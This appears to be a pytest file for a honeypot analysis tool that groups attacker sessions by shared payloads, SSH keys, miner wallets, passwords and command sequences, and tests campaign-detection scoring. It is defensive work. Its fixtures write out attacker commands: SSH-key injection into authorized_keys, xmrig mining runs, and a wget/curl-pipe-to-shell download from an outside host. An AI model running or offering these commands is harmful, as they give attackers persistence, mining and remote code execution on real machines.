"""Real-data validation with silver groups: signals, groups, switching a signal off, scoring."""

from __future__ import annotations

import json
from datetime import datetime

import pytest

from coord_core.contracts.campaigns import AnalysisResult, Campaign, RunInfo, Verdict
from coord_core.contracts.sessions import AttackSession, Upload
from coord_core.evaluation import silver
from coord_core.evaluation.silver import (
    COMMAND_SEQUENCE,
    DOWNLOAD_URL,
    PAYLOAD_HASH,
    SECRET,
    SIGNALS,
    SSH_KEY,
    WALLET,
    canonical_url,
    conflicts,
    injected_keys,
    is_random_secret,
    linked_pairs,
    session_signals,
    silver_groups,
    switch_off,
    validate_sessions,
    wallets_in,
)
from tests.analysis.builders import session

HASH = "a" * 64
KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC0qzbDIYsw1Ujc8PRX/tNE"
XMR = "4" + "7" + "A" * 93
SEQUENCE = ["uname -a", "cat  /proc/cpuinfo", "free -m", "w"]
SECRET_PW = "r6m1qtl3XS9F"


def _window() -> list[AttackSession]:
    """Two sources per signal, each pair sharing exactly one strong value; one loner each."""
    url = "http://203.0.113.0/x"  # documentation range: not global, never a silver URL
    return [
        session("11.0.0.1", 0, downloads=[("http://45.1.2.3/bot", HASH)], key=1),
        session("11.0.0.2", 60, downloads=[("http://45.1.2.3/bot", HASH)], key=2),
        session("12.0.0.1", 0, commands=[f'echo "ssh-rsa {KEY} x" >> ~/.ssh/authorized_keys'], key=3),
        session("12.0.0.2", 90, commands=[f"cd ~; echo ssh-rsa {KEY} >>.ssh/authorized_keys"], key=4),
        session("13.0.0.1", 0, commands=[f"./xmrig -o pool.example:3333 -u {XMR}"], key=5),
        session("13.0.0.2", 30, commands=[f"nohup ./xmrig -u {XMR} &"], key=6),
        session("14.0.0.1", 0, commands=SEQUENCE, key=7),
        session("14.0.0.2", 10, commands=[" ".join(c.split()) + " " for c in SEQUENCE], key=8),
        session("15.0.0.1", 0, logins=[("root", SECRET_PW)], key=9),
        session("15.0.0.2", 10, logins=[("admin", SECRET_PW)], key=10),
        session("16.0.0.1", 0, downloads=[(url, "b" * 64)], logins=[("root", "Password1234")], key=11),
        session("16.0.0.2", 0, downloads=[(url, None)], logins=[("root", "Password1234")], key=12),
        session("17.0.0.1", 0, commands=["uname -a", "id"], key=13),  # two lines: no sequence
        session("17.0.0.2", 0, commands=["uname -a", "id"], key=14),
    ]


def test_signal_values_and_their_placeholders() -> None:
    assert canonical_url("HTTP://Evil.Example.Net:8080/a.sh#x") == "http://evil.example.net:8080/a.sh"
    for placeholder in ("", "/dev/null", "http://127.0.0.1/x", "http://10.1.2.3/x", "http://localhost/x"):
        assert canonical_url(placeholder) is None, placeholder
    assert canonical_url("https://raw.githubusercontent.com/u/r/main/x.sh") is None  # public host
    assert injected_keys(f"echo ssh-rsa {KEY} >> .ssh/authorized_keys") == [KEY]
    assert injected_keys(f"echo ssh-rsa {KEY} > /tmp/k") == []  # not injected
    assert wallets_in(f"./x -u {XMR}") == [XMR]
    assert wallets_in("echo 1BoatSLRHtKNngkdXEeobR76b53LETtpyT") == []  # no miner context
    assert wallets_in("xmrig --user 1BoatSLRHtKNngkdXEeobR76b53LETtpyT") == [
        "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
    ]


@pytest.mark.parametrize(
    ("password", "random"),
    [
        ("r6m1qtl3XS9F", True),
        ("rW755%eyYkP2qRLtVHf!", True),
        ("345gs5662d34", True),  # the odd shared credential of a known botnet
        ("Password1234", False),  # a word with digits
        ("P@sswa0rd2003#", False),
        ("dolphinscheduler123", False),
        ("1qaz2wsx3edc", False),  # keyboard walk
        ("123456789012", False),  # a count
        ("aB3xK9", False),  # too short
        ("abababababab", False),  # low entropy
        (None, False),
    ],
)
def test_random_secrets(password: str | None, random: bool) -> None:
    assert is_random_secret(password) is random


def test_one_group_per_signal_with_only_its_sources() -> None:
    groups = silver_groups(_window())
    found = {g.signal: g.sources for g in groups}
    assert found == {
        PAYLOAD_HASH: ("11.0.0.1", "11.0.0.2"),
        DOWNLOAD_URL: ("11.0.0.1", "11.0.0.2"),
        SSH_KEY: ("12.0.0.1", "12.0.0.2"),
        WALLET: ("13.0.0.1", "13.0.0.2"),
        COMMAND_SEQUENCE: ("14.0.0.1", "14.0.0.2"),
        SECRET: ("15.0.0.1", "15.0.0.2"),
    }
    assert [g.group_id for g in groups] == [f"{s}#1" for s in SIGNALS]
    assert "*" in next(g for g in groups if g.signal == SECRET).preview  # the secret is masked


def test_values_of_one_signal_join_through_shared_sources() -> None:
    sessions = [
        session("21.0.0.1", 0, downloads=[("http://45.1.2.3/a", "1" * 64)], key=1),
        session("21.0.0.2", 0, downloads=[("http://45.1.2.3/a", "1" * 64)], key=2),
        session("21.0.0.2", 50, downloads=[("http://45.1.2.3/b", "2" * 64)], key=3),
        session("21.0.0.3", 0, downloads=[("http://45.1.2.3/b", "2" * 64)], key=4),
        session("22.0.0.1", 0, key=5).model_copy(update={"uploads": [Upload(filename="x", shasum="1" * 64)]}),
    ]
    hashes = [g for g in silver_groups(sessions) if g.signal == PAYLOAD_HASH]
    assert len(hashes) == 1
    assert hashes[0].sources == ("21.0.0.1", "21.0.0.2", "21.0.0.3", "22.0.0.1")
    assert hashes[0].values == ("1" * 64, "2" * 64)
    assert hashes[0].pair_count == 6
    assert hashes[0].sessions == 5


@pytest.mark.parametrize("signal", SIGNALS)
def test_switching_a_signal_off_removes_exactly_its_observables(signal: str) -> None:
    window = _window()
    groups = silver_groups(window)
    values = [v for g in groups if g.signal == signal for v in g.values]
    off = switch_off(window, signal, values)
    after = silver_groups(off)
    assert signal not in {g.signal for g in after}

    # Every other signal's groups are untouched, and so is every session without the signal.
    def others(gs: list[silver.SilverGroup]) -> list[tuple[str, tuple[str, ...], tuple[str, ...]]]:
        return [(g.signal, g.sources, g.values) for g in gs if g.signal != signal]

    assert others(after) == others(groups)
    holders = {ip for g in groups if g.signal == signal for ip in g.sources}
    for before, now in zip(window, off, strict=True):
        if before.src_ip not in holders:
            assert now is before
        else:
            assert now != before
            assert not session_signals(now)[signal] & set(values)
            kept = before.model_dump(exclude={"downloads", "uploads", "commands", "logins"})
            assert now.model_dump(exclude={"downloads", "uploads", "commands", "logins"}) == kept


def test_url_switched_off_is_cut_from_command_lines_too() -> None:
    s = session(
        "31.0.0.1",
        0,
        commands=["cd /tmp && wget http://45.1.2.3/bot -O b; curl 45.1.2.3/bot | sh", "uname -a"],
        downloads=[("http://45.1.2.3/bot", HASH)],
    )
    (off,) = switch_off([s], DOWNLOAD_URL, ["http://45.1.2.3/bot"])
    # No empty URL is left behind (an analysis could take it for a shared value); the file stays.
    assert off.downloads == [] and [u.shasum for u in off.uploads] == [HASH]
    assert off.commands == ["cd /tmp && wget  -O b; curl  | sh", "uname -a"]
    with pytest.raises(ValueError, match="unknown silver signal"):
        switch_off([s], "timing", [])


def _result(*campaigns: tuple[str, Verdict, list[str]]) -> AnalysisResult:
    return AnalysisResult(
        run=RunInfo(input_fingerprint="x", parameters={}, code_version="test"),
        campaigns=[
            Campaign(
                campaign_id=cid,
                verdict=verdict,
                confidence=0.9,
                session_ids=[],
                source_ips=ips,
                first_seen=datetime(2025, 1, 1),
                last_seen=datetime(2025, 1, 1),
            )
            for cid, verdict, ips in campaigns
        ],
    )


def test_recall_counts_pairs_in_one_non_coincidental_campaign_and_conflicts_span_groups() -> None:
    groups = silver_groups(_window())
    by_signal = {g.signal: g for g in groups}
    result = _result(
        ("c1", Verdict.COORDINATED_CAMPAIGN, ["12.0.0.1", "12.0.0.2", "13.0.0.1"]),
        ("c2", Verdict.COINCIDENTAL, ["15.0.0.1", "15.0.0.2"]),
    )
    assert linked_pairs(by_signal[SSH_KEY], result) == 1
    assert linked_pairs(by_signal[SECRET], result) == 0  # a coincidental group links nothing
    assert linked_pairs(by_signal[WALLET], result) == 0
    assert conflicts(by_signal[SSH_KEY], groups, result) == [{"campaign_id": "c1", "group_id": "wallet#1"}]
    assert conflicts(by_signal[WALLET], groups, result) == [{"campaign_id": "c1", "group_id": "ssh_key#1"}]
    assert conflicts(by_signal[SECRET], groups, result) == []


def test_each_signal_is_analysed_switched_off_with_the_analysis_blind_to_it() -> None:
    """The analyzer is called once with everything, then once per signal present, never seeing
    the switched-off values; a toy analyzer that links sources only by file hashes shows it."""
    calls: list[list[AttackSession]] = []

    def analyzer(sessions: list[AttackSession], _: dict[str, object]) -> AnalysisResult:
        calls.append(sessions)
        by_hash: dict[str, list[str]] = {}
        for s in sessions:
            for shasum in [d.shasum for d in s.downloads] + [u.shasum for u in s.uploads]:
                if shasum:
                    by_hash.setdefault(shasum, []).append(s.src_ip)
        return _result(
            *((h, Verdict.COORDINATED_CAMPAIGN, sorted(set(ips))) for h, ips in sorted(by_hash.items()))
        )

    report = validate_sessions(_window(), analyzer=analyzer)
    assert len(calls) == 1 + len(SIGNALS)
    outcome = {o.group.signal: o for o in report.outcomes}
    assert (outcome[PAYLOAD_HASH].linked_on, outcome[PAYLOAD_HASH].linked_off) == (1, 0)
    assert (outcome[DOWNLOAD_URL].linked_on, outcome[DOWNLOAD_URL].linked_off) == (1, 1)
    assert outcome[SSH_KEY].linked_on == 0
    summary = report.summary()
    assert summary["groups"] == len(SIGNALS) and summary["pairs"] == len(SIGNALS)
    assert set(report.runs) == {"all_on", *(f"{s}_off" for s in SIGNALS)}
    text = silver.render(report)
    assert text.splitlines()[-1].startswith("summary: 14 sessions, 14 sources; 6 silver groups")
    assert json.loads(report.to_json())["summary"] == json.loads(json.dumps(summary))


def test_no_silver_group_still_reports() -> None:
    report = validate_sessions([session("41.0.0.1", 0)], analyzer=lambda s, p: _result())
    assert report.outcomes == [] and report.summary()["pair_recall_signal_off"] is None
    assert "no silver group" in silver.render(report)


def test_linked_pairs_are_counted_through_any_shared_campaign() -> None:
    group = silver.SilverGroup(
        "wallet#1", WALLET, ("1.0.0.1", "1.0.0.2", "1.0.0.3", "1.0.0.4"), ("w",), 4, "w"
    )
    result = _result(
        ("c1", Verdict.COORDINATED_CAMPAIGN, ["1.0.0.1", "1.0.0.2"]),
        ("c2", Verdict.SINGLE_ACTOR_MULTI_SOURCE, ["1.0.0.2", "1.0.0.3"]),
    )
    # (1,2) in c1, (2,3) in c2; (1,3) share no campaign; 1.0.0.4 is in none.
    assert linked_pairs(group, result) == 2
    assert group.pair_count == 6


def test_public_downloads_and_empty_files_make_no_group() -> None:
    """Two unrelated actors fetching one public release, and empty downloads, share nothing."""
    public = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    sessions = [
        session("51.0.0.1", 0, downloads=[(public, "c" * 64), ("http://45.9.9.9/a", empty)], key=1),
        session("51.0.0.2", 0, downloads=[(public, "c" * 64), ("http://45.9.9.8/b", empty)], key=2),
    ]
    assert silver_groups(sessions) == []
